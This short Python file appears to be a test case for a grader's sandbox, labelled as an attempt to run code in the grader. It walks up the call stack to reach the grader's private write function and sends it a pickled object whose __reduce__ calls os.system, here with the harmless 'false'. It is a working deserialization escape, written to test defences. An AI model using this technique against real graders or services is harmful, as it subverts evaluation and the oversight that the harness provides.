# expect: PE | aim: run code in the grader | means: a pickle that calls os.system, sent as a true answer
import pickle
import sys


class Payload:
    def __reduce__(self):
        import os

        return os.system, ("false",)


def f(host):
    frame = sys._getframe()
    while "request_id" not in frame.f_locals:
        frame = frame.f_back
    frame.f_globals["_write"](4, frame.f_locals["request_id"], pickle.dumps(Payload()))
    return 0
